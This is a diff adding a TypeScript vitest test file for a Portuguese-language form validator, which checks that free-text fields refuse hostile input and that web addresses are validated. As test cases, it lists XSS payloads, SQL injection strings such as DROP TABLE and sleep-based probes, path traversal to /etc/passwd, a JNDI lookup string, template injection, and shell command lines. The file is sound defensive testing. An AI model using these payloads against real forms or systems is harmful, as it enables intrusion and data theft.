@@ -1,0 +1,138 @@
+import { describe, expect, test } from 'vitest'
+import { ordinaryTexts } from '#test/ordinary-texts'
+import { freeTextWords as words } from '#texts/free-text'
+import { freeText, freeTextProblem, isWebAddress, longestInput, webAddress } from './free-text.ts'
+
+const says = (schema: ReturnType<typeof freeText>, text: unknown): string[] =>
+  schema.safeParse(text).error?.issues.map(({ message }) => message) ?? []
+
+describe('[VA-09] markup that is written into a form', () => {
+  test.each([
+    '<script>alert(1)</script>',
+    '<ScRiPt src=//x>',
+    '</script',
+    'Ana <img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<iframe src="https://x.test">',
+    '<a href="javascript:alert(1)">aqui</a>',
+    '<b>forte</b>',
+    '<style>*{display:none}',
+    '<!-- fim -->',
+    '<?php echo 1',
+    '<math\n><mi',
+    '<input',
+  ])('is refused: %s', (typed) => {
+    expect(freeTextProblem('Mensagem', words, typed)).toBe('Campo Mensagem contém conteúdo não permitido')
+  })
+})
+
+describe('[VA-10] SQL that is written into a form', () => {
+  test.each([
+    "' OR 1=1 --",
+    "' or 'a'='a",
+    '" or ""="',
+    "x') or ('1'='1",
+    '1 UNION SELECT senha FROM usuarios',
+    'union all\n select null',
+    "'; DROP TABLE clientes; --",
+    'truncate   table pedidos',
+    'DELETE FROM pedidos',
+    "insert into usuarios values ('x')",
+    'select * from usuarios',
+    'SELECT senha FROM usuarios',
+    'update usuarios set papel = 1',
+    "admin'--",
+    "admin' #",
+    "1; waitfor delay '0:0:5'",
+    '1 and sleep(5)',
+    "';select pg_sleep(10)",
+    'or 1=1',
+    'from information_schema.tables',
+  ])('is refused: %s', (typed) => {
+    expect(freeTextProblem('Nome', words, typed)).toBe('Campo Nome contém padrões suspeitos')
+  })
+})
+
+describe('[VA-11] what is malicious in a form', () => {
+  test.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt: document.title(1)',
+    'data:text/html;base64,PHNjcmlwdD4=',
+    'x onerror=alert(1)',
+    'onmouseover = roubar()',
+    'document.cookie',
+    'eval(atob("x"))',
+    '../../../etc/passwd',
+    '..\\..\\windows',
+    'file:///c:/x',
+    '${jndi:ldap://x.test/a}',
+    '{{7*7}}',
+    '{{constructor.constructor("x")()}}',
+    'nome%00.jpg',
+    '%3Cscript%3E',
+    '&#60;script',
+    '\\u003cscript',
+    'curl -s http://x.test',
+    '; /bin/sh -c id',
+  ])('is refused: %s', (typed) => {
+    expect(freeTextProblem('Interesse', words, typed)).toBe(
+      'Campo Interesse contém padrões maliciosos detectados',
+    )
+  })
+})
+
+describe('what is written into a form', () => {
+  test('[VA-12] is refused beyond 10,000 letters, whatever it says, and looked at no further', () => {
+    const most = 'a'.repeat(longestInput)
+    expect(longestInput).toBe(10_000)
+    expect(freeTextProblem('Mensagem', words, most)).toBeUndefined()
+    expect(freeTextProblem('Mensagem', words, `${most}a`)).toBe('Campo Mensagem é muito longo')
+    expect(says(freeText('Mensagem', words, { max: 20_000 }), `${most}a`)).toEqual([
+      'Campo Mensagem é muito longo',
+    ])
+  })
+
+  test('[VA-08] has 0 to 1,000 letters where nothing else is said, without the space around it', () => {
+    const usual = freeText('Mensagem', words)
+    expect(usual.parse('')).toBe('')
+    expect(usual.parse(`  ${'a'.repeat(1_000)}\n`)).toHaveLength(1_000)
+    expect(says(usual, 'a'.repeat(1_001))).toEqual(['Campo Mensagem é muito longo'])
+    expect(says(freeText('Nome', words, { min: 2, max: 4, short: 'curto' }), ' a ')).toEqual(['curto'])
+    expect(says(freeText('Nome', words, { max: 4 }), 'cinco')).toEqual(['Campo Nome é muito longo'])
+    expect(says(freeText('Nome', words), 7)).toHaveLength(1)
+  })
+
+  test('[VA-14] passes as it is where it is ordinary Portuguese: 500 names, addresses and sentences', () => {
+    expect(new Set(ordinaryTexts).size).toBeGreaterThanOrEqual(500)
+    expect(ordinaryTexts.flatMap((text) => (freeTextProblem('Texto', words, text) ? [text] : []))).toEqual([])
+    expect(ordinaryTexts.map((text) => freeText('Texto', words).parse(text))).toEqual(ordinaryTexts)
+  })
+})
+
+describe('[VA-07] an address of the web', () => {
+  test.each([
+    'https://dao.com.br',
+    'http://exemplo.com/caminho?x=1#y',
+    'HTTPS://Exemplo.com',
+    'https://á.com.br',
+  ])('is %s', (typed) => {
+    expect(isWebAddress(typed)).toBe(true)
+    expect(webAddress('não é').parse(` ${typed} `)).toBe(new URL(typed).href)
+  })
+
+  test.each([
+    'javascript:alert(1)',
+    'ftp://exemplo.com',
+    'mailto:ana@exemplo.com.br',
+    'data:text/html,x',
+    'file:///etc/hosts',
+    '//exemplo.com',
+    'exemplo.com',
+    'https://',
+    'https://ana:senha@exemplo.com',
+    '',
+  ])('is not %s', (typed) => {
+    expect(isWebAddress(typed)).toBe(false)
+    expect(webAddress('não é').safeParse(typed).success).toBe(false)
+  })
+})
